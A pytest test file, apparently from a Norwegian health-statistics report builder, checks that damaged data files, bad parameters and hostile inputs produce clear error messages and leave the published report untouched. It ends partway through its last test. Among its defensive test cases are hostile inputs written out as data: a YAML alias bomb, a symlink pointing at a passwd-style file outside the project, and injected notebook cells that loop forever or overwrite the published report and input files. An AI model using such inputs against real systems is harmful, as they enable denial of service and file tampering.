"""Bad input gets a clear error and loses nothing.

Each case damages one input in a copy of a project that already has a published report in
output/2026, runs ``build.py validate`` (data cases) and/or a real build, and checks

  (a) the message names the file, row (header = row 1), column or key and what was expected,
  (b) the exit code (2 bad parameter, 3 data problem, 4 chapter failed; see statusrapport/cli.py),
  (c) the published statusrapport.html and manifest.json are byte-identical afterwards,

and that no Python traceback reaches the user and no process of the build is left running.
Data files are protected by the sha256 in their source record, so most cases update that record
with :func:`rehash`; otherwise every case would only report a hash mismatch (which has its own
case).

The second half of the corpus is hostile input and faults: chapters that never end, stop early,
write where they should only read or print 21 MB; formulas in downloads; links and images in
narratives that would make the renderer fetch; YAML alias bombs; stray notebook copies; links
leaving the project; broken xlsx and JSON-stat deliveries; a full disk; a tampered report.
"""

import csv
import datetime
import errno
import http.server
import io
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import threading
import time
from dataclasses import dataclass
from pathlib import Path

import nbformat
import psutil
import pytest
import yaml

from conftest import rehash, run_build, terminal_signals
from statusrapport import cli

EDITION = "2026"
PUBLISHED = ("statusrapport.html", "manifest.json")
OBS = "observations/seed002/2024-03-01.csv"


# -- fixtures and helpers ---------------------------------------------------------------------

@pytest.fixture
def proj(published_copy):
    return published_copy


def snapshot(project, names=PUBLISHED):
    out = project / "output" / EDITION
    return {name: (out / name).read_bytes() for name in names}


def data(project, rel):
    return project / "data" / rel


def lines_of(project, rel):
    return data(project, rel).read_text(encoding="utf-8").split("\n")


def write_lines(project, rel, lines, hashed=True):
    data(project, rel).write_text("\n".join(lines), encoding="utf-8")
    if hashed:
        rehash(project, rel)


def edit_row(project, rel, row, hashed=True, **changes):
    """Change fields of spreadsheet row ``row`` (header = row 1) of a CSV file."""
    lines = lines_of(project, rel)
    header = next(csv.reader([lines[0]]))
    fields = dict(zip(header, next(csv.reader([lines[row - 1]]))))
    fields.update(changes)
    buf = io.StringIO()
    csv.writer(buf, lineterminator="").writerow([fields[c] for c in header])
    lines[row - 1] = buf.getvalue()
    write_lines(project, rel, lines, hashed)


def field_of(project, rel, row, column):
    lines = lines_of(project, rel)
    header = next(csv.reader([lines[0]]))
    return dict(zip(header, next(csv.reader([lines[row - 1]]))))[column]


def n_rows(project, rel):
    return len([ln for ln in lines_of(project, rel) if ln])


# -- mutations ---------------------------------------------------------------------------------

def truncate_mid_row(p):
    """Cut the file in the middle of its last row (as an interrupted copy or download would)."""
    raw = data(p, OBS).read_bytes().rstrip(b"\n")
    last = raw.rfind(b"\n") + 1
    third_comma = last + [i for i, b in enumerate(raw[last:]) if b == ord(",")][2]
    data(p, OBS).write_bytes(raw[: third_comma + 3])  # indicator,period,geo_level,<2 chars>
    rehash(p, OBS)


def truncate_in_quotes(p):
    """Cut inside a quoted field: before, the row was read with a shortened 'ref' and no error."""
    rel = "observations/ssb_befolkning_2024/2026-11-23.csv"
    raw = data(p, rel).read_bytes()
    quote = raw.index(b'"')
    data(p, rel).write_bytes(raw[: quote + 10])
    rehash(p, rel)


def semicolons(p):
    lines = [";".join(next(csv.reader([ln]))) if ln else ln for ln in lines_of(p, OBS)]
    write_lines(p, OBS, lines)


def latin1(p):
    text = data(p, OBS).read_text(encoding="utf-8").replace(",L5705-5707", ",L5705-5707 Bærum", 1)
    data(p, OBS).write_bytes(text.encode("latin-1"))
    rehash(p, OBS)


def utf16(p):
    rel = "observations/seed003/2022-12-31.csv"
    data(p, rel).write_bytes(data(p, rel).read_text(encoding="utf-8").encode("utf-16"))
    rehash(p, rel)


def drop_column(p, column="ref"):
    lines = lines_of(p, OBS)
    i = lines[0].split(",").index(column)
    rows = [next(csv.reader([ln])) for ln in lines if ln]
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows([r[:i] + r[i + 1:] for r in rows])
    data(p, OBS).write_text(buf.getvalue(), encoding="utf-8")
    rehash(p, OBS)


def extra_column(p):
    lines = lines_of(p, OBS)
    lines = [lines[0] + ",kommentar"] + [ln + ",sjekket" if ln else ln for ln in lines[1:]]
    write_lines(p, OBS, lines)


def duplicate_row(p):
    lines = [ln for ln in lines_of(p, OBS) if ln]
    write_lines(p, OBS, lines + [lines[1], ""])


def delete_file(p):
    data(p, "observations/seed003/2022-12-31.csv").unlink()


def empty_file(p):
    data(p, "observations/seed003/2022-12-31.csv").write_bytes(b"")
    rehash(p, "observations/seed003/2022-12-31.csv")


def bom(p):
    data(p, OBS).write_bytes(b"\xef\xbb\xbf" + data(p, OBS).read_bytes())
    rehash(p, OBS)


def narrative(p, text, chapter="samhandling", encoding="utf-8"):
    path = data(p, f"narrative/{EDITION}/{chapter}.md")
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(text.encode(encoding))


def params(p, old, new):
    path = p / "params" / f"{EDITION}.yml"
    text = path.read_text(encoding="utf-8")
    assert re.search(old, text, flags=re.M), old
    path.write_text(re.sub(old, new, text, flags=re.M), encoding="utf-8")


def catalogue_unit(p):
    path = data(p, "catalogue.yml")
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace("unit: dager", "unit: timer", 1), encoding="utf-8")


def tiltak_latin1(p):
    path = data(p, "tiltak.csv")
    path.write_bytes(path.read_text(encoding="utf-8").encode("cp1252"))  # Excel on Windows


def tiltak_ragged(p):
    lines = lines_of(p, "tiltak.csv")
    lines[2] += ",ekstra"
    write_lines(p, "tiltak.csv", lines, hashed=False)


def tiltak_bom(p):
    path = data(p, "tiltak.csv")
    path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())


def kommune_population_with_space(p):
    edit_row(p, "geography/kommuner.csv", 3, folketall_2024="15 221")


def source_files_as_list(p):
    path = data(p, "sources/seed000.yml")
    raw = yaml.safe_load(path.read_text(encoding="utf-8"))
    raw["files"] = [f"{k}: {v}" for k, v in raw["files"].items()]
    path.write_text(yaml.safe_dump(raw, allow_unicode=True, sort_keys=False), encoding="utf-8")


def add_cell(p, code, notebook="05_finansiering.ipynb"):
    """Insert a code cell right after the parameters cell of ``notebook``."""
    path = p / "notebooks" / notebook
    nb = nbformat.read(path, as_version=4)
    at = next(i for i, c in enumerate(nb.cells) if "parameters" in c.metadata.get("tags", [])) + 1
    nb.cells.insert(at, nbformat.v4.new_code_cell(code))
    nbformat.write(nb, path)


def copy_notebook(p, name, source="01_samhandling.ipynb"):
    shutil.copy(p / "notebooks" / source, p / "notebooks" / name)


def replace_in(p, rel, old, new, count=1):
    path = p / rel
    text = path.read_text(encoding="utf-8")
    assert old in text, old
    path.write_text(text.replace(old, new, count), encoding="utf-8")


def alias_bomb(p):
    """A 'billion laughs' document: 12 levels of 10 aliases each, used as a catalogue title."""
    levels = ['_l0: &l0 ["ha", "ha", "ha", "ha", "ha", "ha", "ha", "ha", "ha", "ha"]']
    levels += [f"_l{n}: &l{n} [{', '.join([f'*l{n - 1}'] * 10)}]" for n in range(1, 12)]
    path = data(p, "catalogue.yml")
    text = path.read_text(encoding="utf-8")
    text = re.sub(r"^(\s+title: ).*$", r"\1*l11", text, count=1, flags=re.M)
    path.write_text("\n".join(levels) + "\n" + text, encoding="utf-8")


def duplicate_yaml_key(p):
    path = data(p, "catalogue.yml")
    text = path.read_text(encoding="utf-8")
    text = re.sub(r"^(\s+)(unit: .*)$", r"\1\2\n\1unit: prosent", text, count=1, flags=re.M)
    path.write_text(text, encoding="utf-8")


def many_bad_units(p):
    replace_in(p, "data/catalogue.yml", "unit: ", "unit: timer_", count=-1)


def outside_link(p):
    secret = p.parent / "hemmelig.txt"
    secret.write_text("root:x:0:0:root:/root:/bin/bash\n", encoding="utf-8")
    target = data(p, f"narrative/{EDITION}/samhandling.md")
    target.unlink()
    target.symlink_to(secret)


def huge_observations(p):
    with open(data(p, "observations/seed003/2022-12-31.csv"), "r+b") as fh:
        fh.truncate(51 * 2**20)  # sparse: bigger than the limit without writing 51 MB


XL_SPEC = {"format": "xlsx", "skip_rows": 1, "geo_level": "kommune",
           "geo_dimension": "Kommunenr", "period_dimension": "År",
           "indicator_dimension": "Indikator", "value_column": "Verdi",
           "indicators": {"Avtalte legeårsverk": "legearsverk"}}
JS_SPEC = {"format": "jsonstat2", "geo_level": "kommune", "geo_dimension": "Region",
           "period_dimension": "Tid", "indicator_dimension": "ContentsCode",
           "indicators": {"AvtLegeaarsverk": "legearsverk"},
           "filter": {"KOKfunksjon0000": "FGK10"}, "geo_map": {"EAK": None}}
FIXTURES = Path(__file__).parent / "fixtures" / "deliveries"


def delivery_source(p, spec):
    record = {"id": "levering", "title": "Testlevering", "publisher": "SSB", "origin": "test",
              "licence": "NLOD", "published": "2026-01-01", "retrieved": "2026-01-01", "files": {},
              "import": spec}
    data(p, "sources/levering.yml").write_text(yaml.safe_dump(record, allow_unicode=True),
                                               encoding="utf-8")
    # A delivery is dated today; the published edition's cut-off must lie before it, whatever
    # day the tests run (the shipped 2026 edition may be cut off today).
    params = p / "params" / f"{EDITION}.yml"
    before = (datetime.date.today() - datetime.timedelta(days=1)).isoformat()
    params.write_text(re.sub(r"^data_cutoff: .*$", f"data_cutoff: {before}",
                             params.read_text(encoding="utf-8"), flags=re.M), encoding="utf-8")


def xlsx_delivery(change, sheet=None):
    def mutate(p):
        from openpyxl import load_workbook

        book = load_workbook(FIXTURES / "excel_export.xlsx")
        change(book)
        book.save(p / "levering.xlsx")
        delivery_source(p, {**XL_SPEC, **({"sheet": sheet} if sheet else {})})
    return mutate


def hide_sheet(book):
    book["Data"].sheet_state = "hidden"  # the only visible sheet left is "Om tabellen"


def merge_cells(book):
    book["Data"].merge_cells("A4:A5")


def formula_without_value(book):
    book["Data"]["E4"] = "=E3*2"  # openpyxl saves no cached value


def jsonstat_delivery(change):
    def mutate(p):
        raw = json.loads((FIXTURES / "ssb_11996_kommune.jsonstat2.json").read_text(encoding="utf-8"))
        change(raw)
        (p / "levering.json").write_text(json.dumps(raw), encoding="utf-8")
        delivery_source(p, JS_SPEC)
    return mutate


def value_with_bad_key(raw):
    raw["value"] = {"0": 1.0, "tre": 2.0}


def dimension_as_list(raw):
    raw["dimension"] = list(raw["dimension"].values())


def cache_is_file(p):
    shutil.rmtree(p / ".cache" / "chapters", ignore_errors=True)
    (p / ".cache").mkdir(exist_ok=True)
    (p / ".cache" / "chapters").write_text("ikke en mappe", encoding="utf-8")


def tamper_published(p):
    path = p / "output" / EDITION / "statusrapport.html"
    path.write_text(path.read_text(encoding="utf-8").replace("Samhandling", "Hacket", 1),
                    encoding="utf-8")


def remove_parameters_tag(p):
    path = p / "notebooks" / "04_kompetanse.ipynb"
    nb = nbformat.read(path, as_version=4)
    for cell in nb.cells:
        tags = cell.metadata.get("tags", [])
        if "parameters" in tags:
            tags.remove("parameters")
    nbformat.write(nb, path)


# -- the corpus --------------------------------------------------------------------------------

@dataclass
class Case:
    id: str
    mutate: object
    expect: list  # substrings of stderr (regexes when they start with 're:')
    code: int = 3
    args: tuple = ("validate",)
    real: bool = False  # run build.py in a subprocess (default: cli.main in this process)
    also_build: bool = False  # then also run a real build and check it fails the same way
    then: object = None  # more checks: then(project, result)
    same: tuple = PUBLISHED  # files of output/2026 that must be byte-identical afterwards


R = "seed002/2024-03-01.csv, rad"

CASES = [
    Case("truncated_mid_row", truncate_mid_row,
         ["re:seed002/2024-03-01\\.csv, rad \\d+: har 4 felt, forventet 8 \\(avkortet linje"], also_build=True),
    Case("truncated_inside_quotes", truncate_in_quotes,
         ["ssb_befolkning_2024/2026-11-23.csv, rad 2: kan ikke leses som CSV fra linje 2: filen slutter inne i "
          "et felt i anførselstegn (avkortet fil"]),
    Case("semicolon_separator", semicolons,
         ["seed002/2024-03-01.csv, rad 1: feil kolonner (semikolon som skilletegn? bruk komma); forventet: "
          "indicator,period,geo_level,geo_code,value,status,source,ref"]),
    Case("decimal_comma_quoted", lambda p: edit_row(p, OBS, 9, value="7,7"),
         [f"{R} 9, kolonne 'value': forventet et tall med punktum som desimaltegn (f.eks. 12.5) "
          "(fant: '7,7')"]),
    Case("decimal_comma_unquoted",
         lambda p: write_lines(p, OBS, [ln.replace(",7.7,", ",7,7,") for ln in lines_of(p, OBS)]),
         [f"{R} 9: har 9 felt, forventet 8 (avkortet linje, feil skilletegn eller desimalkomma"]),
    Case("latin1_bytes", latin1,
         ["seed002/2024-03-01.csv, rad 3: ikke gyldig UTF-8 (byte ", "); lagre filen som UTF-8 (fant: 'e6')"]),
    Case("utf16_file", utf16,
         ["seed003/2022-12-31.csv: inneholder NUL-tegn (linje 1); er filen lagret som UTF-16? lagre filen som UTF-8"]),
    Case("missing_column", drop_column,
         ["seed002/2024-03-01.csv, rad 1: feil kolonner; mangler: ref; forventet: indicator,period,"]),
    Case("extra_column", extra_column,
         ["seed002/2024-03-01.csv, rad 1: feil kolonner; ukjente: 'kommentar'; forventet: indicator,period,"]),
    Case("duplicate_key", duplicate_row,
         ["re:seed002/2024-03-01\\.csv, rad \\d+: samme nøkkel som rad 2 \\(indicator, period, geo_level, "
          "geo_code, source\\) \\(fant: 'helsefellesskap_etablert/2023/land/NO/seed002'\\)"]),
    Case("unknown_region_code",
         lambda p: edit_row(p, "observations/helsefellesskap_proxy/2026-11-23.csv", 3, geo_code="H99"),
         ["helsefellesskap_proxy/2026-11-23.csv, rad 3, kolonne 'geo_code': ukjent kode for nivået 'rhf'; "
          "forventet en kode fra geography/units.csv (fant: 'H99')"]),
    Case("unknown_kommune_code", lambda p: edit_row(p, "observations/ssb_befolkning_2024/2026-11-23.csv",
                                                    n_rows(p, "observations/ssb_befolkning_2024/2026-11-23.csv"),
                                                    geo_code="9999"),
         ["re:ssb_befolkning_2024/2026-11-23\\.csv, rad \\d+, kolonne 'geo_code': ukjent kode for nivået "
          "'kommune'; forventet en kode fra geography/kommuner\\.csv \\(fant: '9999'\\)"]),
    Case("unknown_indicator", lambda p: edit_row(p, OBS, 2, indicator="helsefellesskap_etabler"),
         [f"{R} 2, kolonne 'indicator': ukjent indikator (ikke i catalogue.yml) "
          "(fant: 'helsefellesskap_etabler')"]),
    Case("share_above_100", lambda p: edit_row(p, OBS, 4, value="104.5"),
         [f"{R} 4, kolonne 'value': en andel i prosent skal ligge mellom 0 og 100 (fant: '104.5')"]),
    Case("negative_count", lambda p: edit_row(p, OBS, 2, value="-19"),
         [f"{R} 2, kolonne 'value': kan ikke være negativ (enhet: antall) (fant: '-19')"]),
    Case("not_a_number", lambda p: edit_row(p, OBS, 3, value="NaN"),
         [f"{R} 3, kolonne 'value': forventet et tall (f.eks. 12.5) (fant: 'NaN')"]),
    Case("period_in_future", lambda p: edit_row(p, OBS, 2, period="2099"),
         [f"{R} 2, kolonne 'period': perioden ligger fram i tid (i dag er ", "(fant: '2099')"]),
    Case("period_malformed", lambda p: edit_row(p, OBS, 2, period="2023T4"),
         [f"{R} 2, kolonne 'period': forventet f.eks. 2024, 2020-2024, 2021T1", "(fant: '2023T4')"]),
    Case("source_not_used_by_indicator", lambda p: edit_row(p, "observations/seed000/2022-10-19.csv", 3,
                                                            indicator="utskrivningsklare_utskrevet_24t_andel"),
         ["seed000/2022-10-19.csv, rad 3, kolonne 'source': indikatoren 'utskrivningsklare_utskrevet_24t_andel' "
          "har ikke denne kilden i catalogue.yml (har: seed002); raden ville aldri blitt brukt"]),
    Case("empty_file", empty_file,
         ["seed003/2022-12-31.csv: filen er tom; forventet overskriftsraden indicator,period,"]),
    Case("missing_data_file", delete_file,
         ["seed003/2022-12-31.csv: filen mangler (oppført i sources/seed003.yml)"], also_build=True),
    Case("hash_mismatch", lambda p: edit_row(p, OBS, 3, hashed=False, value="12"),
         ["seed002/2024-03-01.csv: sha256 stemmer ikke med sources/seed002.yml; filen er endret etter at "
          "kilden ble registrert"], also_build=True),
    Case("source_files_not_a_mapping", source_files_as_list,
         ["seed000.yml, kolonne 'files': forventet 'sti: sha256' per linje under files"]),
    Case("unknown_catalogue_unit", catalogue_unit,
         ["re:catalogue\\.yml \\(indikator nr\\. \\d+, \\w+\\), kolonne 'unit': ugyldig verdi, "
          "forventet en av prosent, prosentendring, .*80 år og eldre \\(fant: 'timer'\\)"]),
    Case("tiltak_status_outside_vocabulary", lambda p: edit_row(p, "tiltak.csv", 2, hashed=False,
                                                                status="ferdig"),
         ["tiltak.csv, rad 2, kolonne 'status': ukjent status; bruk en av: ikke startet, i rute, "
          "forsinket, levert, avsluttet, ikke rapportert (fant: 'ferdig')"]),
    Case("tiltak_ragged_row", tiltak_ragged,
         ["tiltak.csv, rad 3: har 11 felt, forventet 10 (et komma i en tekst må stå inne i "
          "anførselstegn"]),
    Case("kommune_population_not_integer", kommune_population_with_space,
         ["kommuner.csv, rad 3, kolonne 'folketall_2024': forventet et heltall ≥ 0 (uten mellomrom) "
          "(fant: '15 221')"]),
    Case("narrative_unresolved_placeholder",
         lambda p: narrative(p, "Ventetiden var {{ finnes_ikke.siste }} i fjor.\n"),
         [f"narrative/{EDITION}/samhandling.md, linje 1: plassholderen '{{{{ finnes_ikke.siste }}}}': "
          "ukjent indikator 'finnes_ikke'"],
         also_build=True),
    Case("narrative_latin1", lambda p: narrative(p, "Vurdering\n\nTallene er usikre for Bærum.\n",
                                                 encoding="latin-1"),
         [f"narrative/{EDITION}/samhandling.md, rad 3: ikke gyldig UTF-8 (byte "]),
    # Parameters: the build loads the edition first, so these are exit 2 before anything runs.
    Case("missing_parameter", lambda p: params(p, r"^data_year:.*\n", ""),
         [f"{EDITION}.yml: mangler nøkkel 'data_year'"], code=2, args=("--format", "html")),
    Case("mistyped_parameter", lambda p: params(p, r"^data_year:.*$", 'data_year: "tjue"'),
         [f"{EDITION}.yml: 'data_year' skal være et heltall (f.eks. 2025), fant 'tjue'"], code=2,
         args=("--format", "html")),
    Case("missing_data_cutoff", lambda p: params(p, r"^data_cutoff:.*\n", ""),
         [f"{EDITION}.yml: mangler nøkkel 'data_cutoff'"], code=2, args=("--format", "html")),
    Case("data_cutoff_not_a_date", lambda p: params(p, r"^data_cutoff:.*$", "data_cutoff: 30.11.2026"),
         [f"{EDITION}.yml: 'data_cutoff' skal være en dato (ÅÅÅÅ-MM-DD), f.eks. 2026-11-30, "
          "fant '30.11.2026'"], code=2, args=("--format", "html")),
    Case("previous_edition_missing", lambda p: params(p, r"^previous_edition:.*$",
                                                      'previous_edition: "2024"'),
         [f"{EDITION}.yml: 'previous_edition' (2024) finnes ikke som params/2024.yml"], code=2,
         args=("--format", "html")),
    Case("unknown_edition", lambda p: None, ["2031: utgavefilen finnes ikke; utgavene i params/ er: 2022, 2025, 2026"],
         code=2, args=("--params", "2031", "--format", "html"), real=True),
    Case("unknown_region", lambda p: None,
         ["ukjent region 'atlantis'; bruk 'land' eller en av: ", "bergen"], code=2,
         args=("--region", "atlantis", "--format", "html"), real=True),
    Case("notebook_without_parameters_cell", remove_parameters_tag,
         ["kapittel 'kompetanse': ParameterCellMissing: 04_kompetanse.ipynb: mangler en celle "
          "merket 'parameters'", "Ingen rapport publisert", "1 kapittel(er) feilet"], code=4,
         args=("--format", "html"), real=True),

    # -- 1. bounded chapters ------------------------------------------------------------------
    Case("chapter_never_ends", lambda p: add_cell(p, "while True:\n    pass"),
         ["kapittel 'finansiering': Tidsgrense: kapitlet brukte mer enn 3 s og ble stoppet",
          "--timeout SEKUNDER", "1 kapittel(er) feilet"],
         code=4, args=("--chapter", "finansiering", "--format", "html", "--timeout", "3")),
    Case("chapter_raises_system_exit", lambda p: add_cell(p, "raise SystemExit"),
         ["kapittel 'finansiering': StoppetFørSlutten: kapitlet stoppet før siste celle",
          "sys.exit()"], code=4, args=("--chapter", "finansiering", "--format", "html")),
    Case("chapter_sys_exit_0", lambda p: add_cell(p, "import sys\nsys.exit(0)"),
         ["kapittel 'finansiering': StoppetFørSlutten"], code=4,
         args=("--chapter", "finansiering", "--format", "html")),
    Case("invalid_timeout", lambda p: None, ["--timeout skal være et positivt antall sekunder"],
         code=2, args=("--timeout", "aldri"), real=True),
    # -- 5. inputs and outputs sealed -------------------------------------------------------------
    Case("chapter_overwrites_published_report",
         lambda p: add_cell(p, 'open("../output/2026/statusrapport.html", "w").write("hacket")\n'
                               'raise ValueError("etterpå")'),
         ["kapittel 'finansiering'", "output/2026/statusrapport.html"], code=4,
         args=("--chapter", "finansiering", "--format", "html")),
    Case("chapter_writes_into_output",
         lambda p: add_cell(p, 'open("../output/2026/ekstra.html", "w").write("hacket")'),
         ["kapittel 'finansiering': EndretFil: kapitlet endret filer det bare skal lese: "
          "output/2026/ekstra.html"], code=4, args=("--chapter", "finansiering", "--format", "html")),
    Case("chapter_changes_an_input",
         lambda p: add_cell(p, 'open("../data/tiltak.csv", "a").write("\\n")'),
         ["kapittel 'finansiering': EndretFil: kapitlet endret filer det bare skal lese: "
          "data/tiltak.csv"], code=4, args=("--chapter", "finansiering", "--format", "html")),
    Case("cell_output_too_large", lambda p: add_cell(p, 'print("x" * (21 * 2**20))'),
         ["kapittel 'finansiering': ForStorUtdata: celle ", "grensen er 20 MB"], code=4,
         args=("--chapter", "finansiering", "--format", "html")),
    Case("partial_build_is_a_draft_beside", lambda p: None,
         [f"lagt som UTKAST i ", f"{EDITION}-utkast", "den publiserte utgaven er uendret"], code=0,
         args=("--chapter", "finansiering", "--format", "html"),
         then=lambda p, r: _is_draft(p / "output" / f"{EDITION}-utkast")),
    Case("hand_edited_report_is_rebuilt", tamper_published,
         ["stemmer ikke med manifest.json (endret: statusrapport.html)"], code=0,
         args=("--format", "html"), same=("statusrapport.html",)),  # the manifest notes the rebuild
    Case("output_is_a_file", lambda p: (p / "enfil").write_text("x"),
         ["--output enfil: er en fil, ikke en mappe"], code=2, args=("--format", "html", "--output", "enfil")),
    # -- 6. chapters are declared -----------------------------------------------------------
    Case("notebook_copy1", lambda p: copy_notebook(p, "01_samhandling-Copy1.ipynb"),
         ["01_samhandling-Copy1.ipynb: ikke et kapittel", "flytt den ut av notebooks/"], code=2,
         args=("--format", "html")),
    Case("notebook_download_copy", lambda p: copy_notebook(p, "01_samhandling (1).ipynb"),
         ["01_samhandling (1).ipynb: ikke et kapittel"], code=2, args=("--format", "html")),
    Case("notebook_untitled", lambda p: copy_notebook(p, "Untitled.ipynb"),
         ["Untitled.ipynb: ikke et kapittel"], code=2, args=("--format", "html")),
    Case("duplicate_chapter_number",
         lambda p: (p / "notebooks" / "05_finansiering.ipynb").rename(p / "notebooks" / "03_finansiering.ipynb"),
         ["03_finansiering.ipynb: samme kapittelnummer som 03_akuttmedisin.ipynb"], code=2,
         args=("--format", "html")),
    # -- 4./7. bounded parsing, validate catches what breaks the build ---------------------------
    Case("yaml_alias_bomb", alias_bomb, ["catalogue.yml: kan ikke leses som YAML: linje ",
                                         "mer enn 100 bruk av *alias i én fil"]),
    Case("yaml_duplicate_key", duplicate_yaml_key,
         ["catalogue.yml: kan ikke leses som YAML: linje ", "nøkkelen 'unit' står to ganger"]),
    Case("target_year_quoted", lambda p: replace_in(p, "data/catalogue.yml", "year: 2023", 'year: "2023"'),
         ["target.year skal være et årstall uten anførselstegn (f.eks. 2027) (fant: '2023')"]),
    Case("target_value_infinite", lambda p: replace_in(p, "data/catalogue.yml", "value: 80\n",
                                                       "value: 1.0e+999\n"),
         ["target.value skal være et endelig tall (f.eks. 90) (fant: inf)"]),
    Case("observation_value_infinite", lambda p: edit_row(p, OBS, 2, value="1e999"),
         [f"{R} 2, kolonne 'value': tallet er for stort til å være et tall (uendelig)"]),
    Case("snapshot_without_source", lambda p: data(p, "snapshots/seed000/ekstra.txt").write_text("x"),
         ["snapshots/seed000/ekstra.txt: filen har ingen kildepost i data/sources/"]),
    Case("problems_capped", many_bad_units, ["re:… og \\d+ til"]),
    Case("huge_observations_file", huge_observations,
         ["seed003/2022-12-31.csv: filen er større enn 50 MB (grensen for en datafil)"]),
    # -- 9. symlinks --------------------------------------------------------------------------
    Case("narrative_links_outside", outside_link,
         [f"narrative/{EDITION}/samhandling.md: er en symbolsk lenke til noe utenfor prosjektet"],
         also_build=True),
    # -- 10. every failure a message ------------------------------------------------------------
    Case("retrieved_not_a_date", lambda p: replace_in(p, "data/sources/seed000.yml", "retrieved: ",
                                                      "retrieved: 2026-13-01 #"),
         ["seed000.yml: kan ikke leses: linje ", "'2026-13-01' er ingen gyldig dato; skriv ÅÅÅÅ-MM-DD"]),
    Case("notebook_not_json", lambda p: (p / "notebooks" / "05_finansiering.ipynb").write_text("{"),
         ["kapittel 'finansiering': UgyldigNotatbok: 05_finansiering.ipynb: kan ikke leses som notatbok"],
         code=4, args=("--chapter", "finansiering", "--format", "html")),
    Case("tiltak_control_character",
         lambda p: edit_row(p, "tiltak.csv", 2, hashed=False, comment="frist\x07ikke angitt"),
         ["tiltak.csv, rad 2: inneholder et usynlig kontrolltegn (U+0007)"]),
    Case("cache_folder_is_a_file", cache_is_file,
         ["chapters: en fil står der en mappe skal være; flytt eller slett filen"], code=6,
         args=("--chapter", "finansiering", "--format", "html")),
    Case("edition_dotdot", lambda p: None, ["..: utgavefilen finnes ikke; utgavene i params/ er"],
         code=2, args=("--params", "..", "--format", "html")),
    Case("jsonstat_value_bad_key", jsonstat_delivery(value_with_bad_key),
         ["levering.json: ikke et gyldig JSON-stat2-datasett: 'value' som objekt skal ha "
          "posisjoner (0, 1, 2 …) som nøkler, fant 'tre'"], args=("import", "levering.json", "--source", "levering")),
    Case("jsonstat_dimension_list", jsonstat_delivery(dimension_as_list),
         ["levering.json: ikke et gyldig JSON-stat2-datasett: 'dimension' skal være et objekt"],
         args=("import", "levering.json", "--source", "levering")),
    # -- 8. xlsx deliveries ---------------------------------------------------------------------
    Case("xlsx_hidden_sheet", xlsx_delivery(hide_sheet),
         ["levering.xlsx: arbeidsboken har 1 synlige ark (Om tabellen) og skjulte ark (Data); oppgi arket"],
         args=("import", "levering.xlsx", "--source", "levering")),
    Case("xlsx_named_sheet_hidden", xlsx_delivery(hide_sheet, sheet="Data"),
         ["levering.xlsx: arket 'Data' er skjult i Excel"],
         args=("import", "levering.xlsx", "--source", "levering")),
    Case("xlsx_merged_cells", xlsx_delivery(merge_cells, sheet="Data"),
         ["levering.xlsx: fil levering.xlsx, ark 'Data': sammenslåtte celler A4:A5"],
         args=("import", "levering.xlsx", "--source", "levering")),
    Case("xlsx_formula_without_value", xlsx_delivery(formula_without_value, sheet="Data"),
         ["levering.xlsx: fil levering.xlsx, ark 'Data': celle E4 har en formel uten lagret verdi"],
         args=("import", "levering.xlsx", "--source", "levering")),
]


@dataclass
class Ran:
    returncode: int
    stdout: str
    stderr: str


def run_cli(project, args, monkeypatch, capsys):
    """``build.py`` without a new Python process (the same cli.main, much faster)."""
    monkeypatch.setattr(cli, "ROOT", project)
    monkeypatch.chdir(project)
    capsys.readouterr()
    code = cli.main(list(args))
    out = capsys.readouterr()
    return Ran(code, out.out, out.err)


def leftovers(project, wait=10.0):
    """Processes of a build still running: children of this test process, or anything whose
    command line or folder is in ``project``. Waits up to ``wait`` s for them to end."""
    me, project = psutil.Process(), str(project)

    def find():
        found = set(me.children(recursive=True))
        for proc in psutil.process_iter(["pid", "cmdline", "cwd"]):
            if proc.pid != me.pid and (project in " ".join(proc.info["cmdline"] or ())
                                       or (proc.info["cwd"] or "").startswith(project)):
                found.add(proc)
        try:  # the resource tracker is this test process's own helper, shared by every pool
            return [p for p in found if p.is_running() and p.status() != psutil.STATUS_ZOMBIE
                    and "multiprocessing.resource_tracker" not in " ".join(p.cmdline())]
        except psutil.NoSuchProcess:
            return find()

    deadline = time.monotonic() + wait
    while (left := find()) and time.monotonic() < deadline:
        time.sleep(0.2)
    return [f"{p.pid}: {' '.join(p.cmdline())[:120]}" for p in left]


def _is_draft(folder):
    html = (folder / "statusrapport.html").read_text(encoding="utf-8")
    assert "UTKAST" in html


def check(result, case_expect, code, before, project, same=PUBLISHED):
    err = result.stderr
    assert result.returncode == code, f"exit {result.returncode}\n{err}\n{result.stdout}"
    if code == 0:
        err = result.stdout + err
    for part in case_expect:
        if part.startswith("re:"):
            assert re.search(part[3:], err), f"mangler /{part[3:]}/ i:\n{err}"
        else:
            assert part in err, f"mangler {part!r} i:\n{err}"
    assert "Traceback" not in err and "Traceback" not in result.stdout, err
    assert snapshot(project, same) == {k: before[k] for k in same}, "den publiserte rapporten i output/ ble endret"
    assert not (project / "output" / EDITION / "failed").exists(), "failed/ inne i utgaven"
    assert leftovers(project) == [], "prosesser fra byggingen kjører fortsatt"


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_bad_input(case, proj, monkeypatch, capsys):
    before = snapshot(proj)
    case.mutate(proj)
    if case.real:
        result = run_build(proj, *case.args)
    else:
        result = run_cli(proj, case.args, monkeypatch, capsys)
    check(result, case.expect, case.code, before, proj, case.same)
    if case.then:
        case.then(proj, result)
    if case.also_build:
        result = run_build(proj, "--format", "html")
        check(result, case.expect, case.code, before, proj)
        assert "FEIL: " in result.stderr and "kjører" not in result.stdout  # stopped before notebooks


def test_bom_is_accepted(proj):
    """Decision: a UTF-8 BOM at the start of an observations file (Excel's "CSV UTF-8") is
    accepted; the header is recognised and the first value read as usual."""
    from statusrapport.data import catalogue, geography, observations, sources

    bom(proj)
    tiltak_bom(proj)  # the same holds for tiltak.csv (before: "mangler kolonne(r) id")
    assert run_build(proj, "validate").returncode == 0
    tiltak = proj / "data" / "tiltak.csv"
    tiltak.write_bytes(tiltak.read_bytes()[3:])
    tiltak_latin1(proj)  # and for tiltak.csv as Excel on Windows saves it (cp1252)
    result = run_build(proj, "validate")
    assert result.returncode == 0, result.stderr
    assert "Alle datafiler er gyldige" in result.stdout
    d = proj / "data"
    srcs = sources.load_all(d)
    frame, problems = observations.read(d / OBS, catalogue.load(d / "catalogue.yml", set(srcs)),
                                        geography.load(d), set(srcs))
    assert problems == []
    first = frame.iloc[0]
